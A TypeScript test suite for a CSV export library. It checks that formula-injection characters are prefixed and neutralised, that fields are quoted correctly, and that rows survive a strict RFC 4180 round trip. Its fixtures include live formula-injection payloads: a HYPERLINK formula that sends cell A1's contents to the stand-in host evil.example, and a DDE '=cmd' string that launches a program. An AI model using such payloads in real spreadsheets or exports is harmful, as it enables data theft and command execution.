import { describe, expect, it } from "vitest";
import { CSV_BOM, csvHeader, csvLines, neutraliseFormula, toCsvRow, type CsvCell } from "@/lib/server/platform/csv";

/**
 * Minimal RFC 4180 reader, for round trips only: fields separated by commas, records by CRLF,
 * quoted fields may hold commas, quotes ("") and line breaks. Strict: throws on malformed input.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quoted field");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        field += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r" && text[i] !== "\n") {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i];
        i += 1;
      }
    }
    record.push(field);
    if (text[i] === ",") {
      i += 1;
    } else if (text.startsWith("\r\n", i)) {
      records.push(record);
      record = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  if (record.length > 0) throw new Error("last record lacks CRLF");
  return records;
}

async function collect(lines: AsyncIterable<string>): Promise<string> {
  let out = "";
  for await (const line of lines) out += line;
  return out;
}

describe("neutraliseFormula", () => {
  it.each([
    ["=HYPERLINK(\"http://evil.example\",\"click\")", "'=HYPERLINK(\"http://evil.example\",\"click\")"],
    ["=1+2", "'=1+2"],
    ["+1", "'+1"],
    ["-1+2", "'-1+2"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=cmd", "'\t=cmd"],
    ["\r=cmd", "'\r=cmd"],
    ["+44 20 7946 0000", "'+44 20 7946 0000"],
    // After leading whitespace or line breaks, which some spreadsheets trim before evaluating.
    [" =1+2", "' =1+2"],
    ["  +1", "'  +1"],
    ["\n=cmd", "'\n=cmd"],
    ["\u3000=1", "'\u3000=1"],
    // Full-width forms, which some spreadsheets fold to ASCII.
    ["＝1+2", "'＝1+2"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("prefixes %j", (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each(["Ada Lovelace", "a=b", "x-1", "user@example.com", "", " not = first", "'already", "Zoë 😀", "Ａda"])("leaves %j alone", (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });
});

describe("toCsvRow", () => {
  it.each<[string, CsvCell[], string]>([
    ["plain cells", ["a", "b", "c"], "a,b,c\r\n"],
    ["empty row", [], "\r\n"],
    ["null, undefined and empty", [null, undefined, ""], ",,\r\n"],
    ["numbers and booleans verbatim", [42, -1, 1.5, true, false], "42,-1,1.5,true,false\r\n"],
    ["comma", ["Smith, John"], '"Smith, John"\r\n'],
    ["embedded quotes doubled", ['say "hi"'], '"say ""hi"""\r\n'],
    ["LF", ["line1\nline2"], '"line1\nline2"\r\n'],
    ["CRLF", ["line1\r\nline2"], '"line1\r\nline2"\r\n'],
    ["leading space", [" padded"], '" padded"\r\n'],
    ["trailing space", ["padded "], '"padded "\r\n'],
    ["unicode untouched", ["Zoë Ñandú 東京 😀"], "Zoë Ñandú 東京 😀\r\n"],
    ["formula neutralised", ["=1+2"], "'=1+2\r\n"],
    ["formula with comma neutralised then quoted", ['=HYPERLINK("http://x",",")'], '"\'=HYPERLINK(""http://x"","","")"\r\n'],
    ["negative-looking string neutralised", ["-1+2"], "'-1+2\r\n"],
    ["@ neutralised", ["@SUM(1)"], "'@SUM(1)\r\n"],
    ["leading tab neutralised (then no longer leading whitespace)", ["\tx"], "'\tx\r\n"],
    ["leading CR neutralised and quoted", ["\rx"], "\"'\rx\"\r\n"],
  ])("%s", (_label, cells, expected) => {
    expect(toCsvRow(cells)).toBe(expected);
  });

  it("csvHeader follows the same rules", () => {
    expect(csvHeader(["Name", "E-mail", "Division, name"])).toBe('Name,E-mail,"Division, name"\r\n');
  });
});

describe("round trip through an RFC 4180 parser", () => {
  const hostile: CsvCell[][] = [
    ["id", "name", "email", "title"],
    ["1", "Ada Lovelace", "ada@example.com", "Engineer"],
    ["2", 'O"Brien, "Pat"', "pat@example.com", "Lead\r\nOps"],
    ["3", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "@evil", "-1+2"],
    ["4", "\t=1+1", "\r=1+1", "+SUM(A1)"],
    ["5", "  Zoë 東京 😀  ", "line\nbreak", ""],
    ["6", null, undefined, 7],
  ];

  it("parses back to the neutralised cells, record for record", () => {
    const text = hostile.map((row) => toCsvRow(row)).join("");
    const expected = hostile.map((row) => row.map((cell) => (cell === null || cell === undefined ? "" : typeof cell === "string" ? neutraliseFormula(cell) : String(cell))));
    expect(parseCsv(text)).toEqual(expected);
  });

  it("leaves no parsed cell starting with a formula character", () => {
    const parsed = parseCsv(hostile.map((row) => toCsvRow(row)).join(""));
    for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("csvLines", () => {
  interface Row {
    name: string;
    email: string | null;
  }
  const rows: Row[] = [
    { name: "Ada", email: "ada@example.com" },
    { name: "=cmd|' /C calc'!A0", email: null },
  ];
  const toCells = (row: Row): CsvCell[] => [row.name, row.email];

  it("streams a header and one CRLF record per row from an async iterable", async () => {
    async function* source(): AsyncGenerator<Row> {
      for (const row of rows) yield row;
    }
    const lines: string[] = [];
    for await (const line of csvLines(["Name", "Email"], source(), toCells)) lines.push(line);
    expect(lines).toEqual(["Name,Email\r\n", "Ada,ada@example.com\r\n", "'=cmd|' /C calc'!A0,\r\n"]);
    expect(parseCsv(lines.join(""))).toEqual([
      ["Name", "Email"],
      ["Ada", "ada@example.com"],
      ["'=cmd|' /C calc'!A0", ""],
    ]);
  });

  it("accepts a plain array and can start with a BOM", async () => {
    const text = await collect(csvLines(["Name", "Email"], rows, toCells, { bom: true }));
    expect(text.startsWith(`${CSV_BOM}Name,Email\r\n`)).toBe(true);
    expect(parseCsv(text.slice(CSV_BOM.length))).toHaveLength(3);
  });

  it("yields only the header for no rows", async () => {
    expect(await collect(csvLines(["Name"], [], (row: Row) => [row.name]))).toBe("Name\r\n");
  });
});
